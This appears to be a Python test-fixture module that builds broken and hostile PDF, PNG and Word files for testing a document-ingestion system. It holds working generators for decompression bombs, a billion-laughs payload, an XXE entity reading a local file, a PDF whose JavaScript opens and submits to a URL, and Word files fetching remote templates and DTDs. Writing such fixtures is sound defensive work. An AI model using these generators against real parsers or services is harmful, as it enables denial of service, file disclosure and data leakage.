"""Files that are broken, too large, or meant ill, each made here."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable

import pikepdf
from docx import Document
from PIL import Image
from reportlab.pdfgen.canvas import Canvas

WORDS = "UBND xã Tân Lập. Kế hoạch số 12/KH-UBND. Tỷ lệ hộ nghèo giảm còn 3,5 %."


def pdf(pages: int = 1) -> bytes:
    """A small digital PDF (letters of Latin-1 only, which the built-in fonts have)."""
    target = io.BytesIO()
    canvas = Canvas(target, invariant=1)
    for number in range(pages):
        canvas.drawString(72, 720, f"Ke hoach cua xa, trang {number + 1}: ty le dat 78 %")
        canvas.showPage()
    canvas.save()
    return target.getvalue()


def _saved(document: pikepdf.Pdf, **options: object) -> bytes:
    target = io.BytesIO()
    document.save(target, **options)
    return target.getvalue()


def encrypted(user: str, owner: str) -> bytes:
    with pikepdf.open(io.BytesIO(pdf())) as document:
        return _saved(document, encryption=pikepdf.Encryption(user=user, owner=owner))


def without_pages() -> bytes:
    return _saved(pikepdf.new())


def many_pages(count: int) -> bytes:
    with pikepdf.open(io.BytesIO(pdf())) as document:
        first = document.pages[0]
        for _ in range(count - 1):
            document.pages.append(first)
        return _saved(document)


def bomb_in_pdf(megabytes: int = 2048) -> bytes:
    """A page whose content is a deflated stream of that many megabytes of spaces."""
    packer = zlib.compressobj(9)
    packed = b"".join(packer.compress(b" " * (1 << 20)) for _ in range(megabytes)) + packer.flush()
    document = pikepdf.new()
    document.add_blank_page()
    stream = pikepdf.Stream(document, packed)
    stream.Filter = pikepdf.Name.FlateDecode
    document.pages[0].Contents = document.make_indirect(stream)
    return _saved(document, compress_streams=False, recompress_flate=False)


def page_tree_in_a_circle() -> bytes:
    return (
        b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n"
        b"2 0 obj<</Type/Pages/Count 3/Kids[2 0 R 2 0 R]>>endobj\n"
        b"trailer<</Root 1 0 R/Size 3>>\n%%EOF\n"
    )


def page_like_a_wall() -> bytes:
    """A page of five metres by five, with a word on it."""
    target = io.BytesIO()
    canvas = Canvas(target, pagesize=(14_400, 14_400), invariant=1)
    canvas.drawString(72, 720, "Ke hoach: ty le dat 78 %")
    canvas.save()
    return target.getvalue()


def acting_pdf(url: str) -> bytes:
    """A PDF that would run JavaScript, open an address and submit a form when opened."""
    with pikepdf.open(io.BytesIO(pdf())) as document:
        script = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=f"app.launchURL('{url}'); this.submitForm('{url}');")
        document.Root.OpenAction = script
        document.Root.AA = pikepdf.Dictionary(WC=script)
        document.pages[0].AA = pikepdf.Dictionary(
            O=pikepdf.Dictionary(S=pikepdf.Name.URI, URI=url), C=pikepdf.Dictionary(S=pikepdf.Name.URI, URI=url)
        )
        # an image whose data lies at the address
        remote = pikepdf.Stream(document, b"")
        remote.Type, remote.Subtype = pikepdf.Name.XObject, pikepdf.Name.Image
        remote.Width, remote.Height, remote.BitsPerComponent = 10, 10, 8
        remote.ColorSpace = pikepdf.Name.DeviceGray
        remote.F = pikepdf.Dictionary(FS=pikepdf.Name.URL, F=url)
        document.pages[0].Resources.XObject = pikepdf.Dictionary(Remote=remote)
        return _saved(document)


def png(width: int, height: int) -> bytes:
    """A white one-bit PNG; the file stays small however large the picture is."""
    row = b"\x00" + b"\xff" * ((width + 7) // 8)
    packer = zlib.compressobj(9)
    packed = b"".join(packer.compress(row * 100) for _ in range(height // 100)) + packer.flush()

    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    head = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", packed) + chunk(b"IEND", b"")


def small_png() -> bytes:
    target = io.BytesIO()
    Image.new("L", (400, 300), 255).save(target, "PNG")
    return target.getvalue()


def docx(change: Callable[[str], str] | None = None, **parts: str) -> bytes:
    """A Word file; ``change`` edits the XML of its body, ``parts`` replace or add files of the archive."""
    document = Document()
    document.add_paragraph(WORDS)
    source, target = io.BytesIO(), io.BytesIO()
    document.save(source)
    extra = dict(parts)
    with zipfile.ZipFile(source) as read, zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as write:
        for name in read.namelist():
            text = read.read(name)
            if name == "word/document.xml" and change is not None:
                text = change(text.decode("utf-8")).encode("utf-8")
            write.writestr(name, extra.pop(name, text))
        for name, text in extra.items():
            write.writestr(name, text)
    return target.getvalue()


def _doctype(xml: str, doctype: str, entity: str) -> str:
    head, _, rest = xml.partition("?>")
    return f"{head}?>{doctype}{rest}".replace(WORDS, f"{WORDS} {entity}")


def docx_reading_a_file(path: str) -> bytes:
    doctype = f'<!DOCTYPE w:document [<!ENTITY x SYSTEM "file://{path}">]>'
    return docx(lambda xml: _doctype(xml, doctype, "&x;"))


def docx_of_billion_laughs() -> bytes:
    entities = '<!ENTITY a0 "ha">' + "".join(f'<!ENTITY a{i} "{f"&a{i - 1};" * 10}">' for i in range(1, 10))
    return docx(lambda xml: _doctype(xml, f"<!DOCTYPE w:document [{entities}]>", "&a9;"))


def docx_with_remote_parts(url: str) -> bytes:
    """A Word file whose template, picture and entity lie at an address."""
    relations = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
        f'attachedTemplate" Target="{url}/t.dotm" TargetMode="External"/>'
        '<Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" '
        f'Target="{url}/i.png" TargetMode="External"/></Relationships>'
    )
    return docx(
        lambda xml: _doctype(xml, f'<!DOCTYPE w:document SYSTEM "{url}/d.dtd">', ""),
        **{"word/_rels/settings.xml.rels": relations},
    )


def docx_bomb(megabytes: int = 2048) -> bytes:
    """A Word file whose body unpacks to that many megabytes."""
    source, target = io.BytesIO(docx()), io.BytesIO()
    with zipfile.ZipFile(source) as read, zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as write:
        for name in read.namelist():
            if name != "word/document.xml":
                write.writestr(name, read.read(name))
                continue
            head, _, tail = read.read(name).partition(WORDS.encode())
            with write.open(name, "w", force_zip64=True) as part:
                part.write(head)
                for _ in range(megabytes):
                    part.write(b" " * (1 << 20))
                part.write(WORDS.encode() + tail)
    return target.getvalue()
